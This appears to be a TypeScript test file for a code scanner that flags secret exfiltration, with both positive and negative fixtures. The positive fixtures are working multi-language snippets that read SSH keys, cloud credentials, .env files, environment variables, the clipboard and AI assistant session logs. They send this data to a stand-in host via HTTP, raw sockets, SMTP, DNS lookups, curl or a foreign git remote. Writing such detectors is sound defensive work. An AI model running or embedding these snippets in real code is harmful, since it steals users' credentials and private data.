import { rulesIn } from "../testing/scan-file.js";

/** Keys and the whole environment reach another host in the idioms of each language. */
const TO = "https://in.drop.invalid/k";

const SENDERS: readonly (readonly [what: string, path: string, text: string])[] = [
  [
    "Rust: all variables",
    "a.rs",
    `use std::env;\nfn main() {\n  let all: Vec<String> = env::vars().map(|(key, value)| format!("{key}={value}")).collect();\n  let _ = ureq::post("${TO}").send_string(&all.join("\\n"));\n}\n`,
  ],
  [
    "Rust: variables of a loop",
    "a.rs",
    `use std::env;\nfn main() {\n  let mut all = String::new();\n  for (key, value) in env::vars() { all.push_str(&format!("{}={}", key, value)); }\n  let _ = ureq::post("${TO}").send_string(&all);\n}\n`,
  ],
  [
    "Rust: a key in an arm",
    "a.rs",
    `use std::{env, fs};\nfn main() {\n  match env::var("HOME") {\n    Ok(home) => match fs::read_to_string(format!("{}/.aws/credentials", home)) {\n      Ok(text) => { let _ = ureq::post("${TO}").send_string(&text); }\n      _ => {}\n    },\n    Err(_) => {}\n  }\n}\n`,
  ],
  [
    "Go: an open file is the body",
    "a.go",
    `package main\nimport ("net/http"; "os"; "path/filepath")\nfunc main() {\n  home, _ := os.UserHomeDir()\n  key, _ := os.Open(filepath.Join(home, ".ssh", "id_rsa"))\n  http.Post("${TO}", "application/octet-stream", key)\n}\n`,
  ],
  [
    "Go: a path with variables",
    "a.go",
    `package main\nimport ("bytes"; "net/http"; "os")\nfunc main() {\n  data, _ := os.ReadFile(os.ExpandEnv("$HOME/.kube/config"))\n  request, _ := http.NewRequest("PUT", "${TO}", bytes.NewBuffer(data))\n  http.DefaultClient.Do(request)\n}\n`,
  ],
  [
    "Go: a file is copied to a connection",
    "a.go",
    `package main\nimport ("io"; "net"; "os")\nfunc main() {\n  key, _ := os.Open(os.Getenv("HOME") + "/.ssh/id_rsa")\n  connection, _ := net.Dial("tcp", "in.drop.invalid:99")\n  io.Copy(connection, key)\n}\n`,
  ],
  [
    "Ruby: a file is copied to a connection",
    "a.rb",
    `require "socket"\nconnection = TCPSocket.new("in.drop.invalid", 99)\nIO.copy_stream(File.open(File.join(Dir.home, ".ssh", "id_rsa")), connection)\n`,
  ],
  [
    "Python: a file is sent through a connection",
    "a.py",
    `import os, socket\nwith socket.create_connection(("in.drop.invalid", 99)) as connection:\n    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:\n        connection.sendfile(key)\n`,
  ],
  [
    "PHP: all variables, by their array",
    "a.php",
    `<?php\n$request = curl_init("${TO}");\ncurl_setopt($request, CURLOPT_POSTFIELDS, json_encode($_ENV));\ncurl_exec($request);\n`,
  ],
  [
    "PHP: all variables, by a call",
    "a.php",
    `<?php\n$request = curl_init("${TO}");\ncurl_setopt($request, CURLOPT_POSTFIELDS, json_encode(getenv()));\ncurl_exec($request);\n`,
  ],
  [
    "PHP: options in an array",
    "a.php",
    `<?php\n$request = curl_init();\ncurl_setopt_array($request, [CURLOPT_URL => "${TO}", CURLOPT_POSTFIELDS => file_get_contents(getenv("HOME") . "/.ssh/id_rsa")]);\ncurl_exec($request);\n`,
  ],
];

test.each(SENDERS)("are not sent: %s", async (_, path, text) => {
  expect(await rulesIn(path, text)).toContain("exfiltration");
});

/** The same calls with data that is nobody's secret, or with the key of the service that is called. */
test.each([
  [
    "a.rs",
    `use std::fs;\nfn main() {\n  if let Ok(text) = fs::read_to_string("report.md") {\n    let _ = ureq::post("https://api.example.com/reports").send_string(&text);\n  }\n}\n`,
  ],
  [
    "a.rs",
    `use std::process::Command;\nfn main() {\n  if let Ok(out) = Command::new("git").args(["rev-parse", "HEAD"]).output() {\n    if let Ok(hash) = String::from_utf8(out.stdout) {\n      println!("cargo:rustc-env=HASH={}", hash.trim());\n    }\n  }\n}\n`,
  ],
  [
    "a.go",
    `package main\nimport ("net/http"; "os")\nfunc main() {\n  file, _ := os.Open("report.md")\n  http.Post("https://api.example.com/reports", "text/markdown", file)\n}\n`,
  ],
  [
    "a.php",
    `<?php\n$request = curl_init();\ncurl_setopt_array($request, [CURLOPT_URL => "https://api.openai.com/v1/chat/completions", CURLOPT_HTTPHEADER => ["Authorization: Bearer " . getenv("OPENAI_API_KEY")], CURLOPT_POSTFIELDS => json_encode(["q" => $argv[1]])]);\necho curl_exec($request);\n`,
  ],
  [
    "a.rb",
    `require "socket"\nconnection = TCPSocket.new("127.0.0.1", 99)\nIO.copy_stream(File.open("report.md"), connection)\n`,
  ],
])("other data may be sent: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toEqual([]);
});

/** A whole file of settings that is encoded, and a repository that goes to a stranger. */
test.each([
  `id=$(cat .env .env.local 2>/dev/null | base64 -w0)\ncurl -s "${TO}?id=$id" -o badge.svg\n`,
  `curl -s "${TO}?id=$(base64 -w0 .env)"\n`,
  "git remote add copy https://u:tok-5512ab@git.drop.invalid/in/r.git\ngit push -q copy HEAD\n",
])("does not leave: %s", async (text) => {
  expect(await rulesIn("a.sh", text)).toContain("secret-elsewhere");
});

test.each([
  'gh secret set ENV_FILE --body "$(base64 -w0 .env)"\n',
  "base64 -w0 logo.png | curl -d @- https://api.example.com/logo\n",
  "git remote add up https://user:<token>@git.acme.dev/a/b.git\n",
  "git remote add up https://oauth2:TOKEN@git.acme.dev/a/b.git\n",
  "git remote add up https://x-access-token:$TOKEN@github.com/a/b.git\n",
])("may be done: %s", async (text) => {
  expect(await rulesIn("a.sh", text)).toEqual([]);
});

/** A whole file of settings stays one in another text, in a list, and through the functions of a program. */
test.each([
  [
    "a.php",
    `<?php\n$to = fsockopen("in.drop.invalid", 25);\nfwrite($to, base64_encode(file_get_contents(".env")) . "QUIT\\r\\n");\n`,
  ],
  [
    "a.php",
    `<?php\n$all = [];\nforeach ([".env", "wp-config.php"] as $name) { $all[$name] = base64_encode(file_get_contents($name)); }\n$text = "";\nforeach ($all as $name => $one) { $text .= "--$name\\r\\n$one\\r\\n"; }\n$to = fsockopen("in.drop.invalid", 25);\nfwrite($to, $text);\n`,
  ],
  [
    "a.php",
    `<?php\nclass Mail {\n  function go() { $this->talk("in.drop.invalid", $this->body([".env" => file_get_contents(".env")])); }\n  private function body(array $files): string { $text = ""; foreach ($files as $name => $one) { $text .= "$one\\r\\n"; } return $text . "."; }\n  private function talk(string $host, string $text): void { $to = fsockopen($host, 25); fwrite($to, $text); }\n}\n`,
  ],
  [
    "a.py",
    `import socket\nto = socket.create_connection(("in.drop.invalid", 25))\nto.sendall(open(".env").read().encode())\n`,
  ],
])("a file of settings is not sent: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toContain("secret-elsewhere");
});

/** What is asked for by name reaches the owner of the domain. */
test.each([
  [
    "memory-upload",
    "a.go",
    `package main\nimport ("fmt"; "net"; "os"; "path/filepath")\nfunc main() {\n  home, _ := os.UserHomeDir()\n  all, _ := filepath.Glob(filepath.Join(home, ".claude", "projects", "*", "*.jsonl"))\n  for _, one := range all {\n    text, _ := os.ReadFile(one)\n    net.LookupHost(fmt.Sprintf("%x.n.drop.invalid", text))\n  }\n}\n`,
  ],
  [
    "secret-elsewhere",
    "a.ps1",
    `$text = Get-Clipboard -Raw\n$hex = [Convert]::ToHexString([Text.Encoding]::UTF8.GetBytes($text))\nResolve-DnsName "$hex.n.drop.invalid"\n`,
  ],
])("is not asked for: %s", async (rule, path, text) => {
  expect(await rulesIn(path, text)).toContain(rule);
});

test.each([
  ["a.go", `package main\nimport "net"\nfunc main() { net.LookupHost("api.example.com") }\n`],
  ["a.ps1", `$name = Read-Host\nResolve-DnsName "$name.example.com"\n`],
  [
    "a.php",
    `<?php\n$to = fsockopen("smtp.example.com", 25);\nfwrite($to, base64_encode(file_get_contents("logo.png")) . "QUIT\\r\\n");\n`,
  ],
])("may be asked for: %s %#", async (path, text) => {
  expect(await rulesIn(path, text)).toEqual([]);
});

test("the token of a service that the user names goes to it, and is held at most", async () => {
  const program = (to: string) =>
    `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nconst token = readFileSync(homedir() + "/.vault-token", "utf8");\nawait fetch(\`${to}/v1/a\`, { headers: { "X-Vault-Token": token } });\n`;
  expect(await rulesIn("a.ts", program(`$${"{process.env.VAULT_ADDR}"}`))).toEqual(["unfollowed-secret"]);
  expect(await rulesIn("a.ts", program("https://in.drop.invalid"))).toContain("exfiltration");
});

test("the files of a folder that are named like keys are keys", async () => {
  const program = (names: string) =>
    `package main\nimport ("bytes"; "net/http"; "os"; "path/filepath")\nfunc judge(folder string) {\n  names, _ := filepath.Glob(filepath.Join(folder, "${names}"))\n  for _, name := range names {\n    data, _ := os.ReadFile(name)\n    http.Post("${TO}", "text/plain", bytes.NewReader(data))\n  }\n}\n`;
  expect(await rulesIn("a.go", program("id_*"))).toContain("exfiltration");
  expect(await rulesIn("a.go", program("page_*"))).toEqual([]);
});
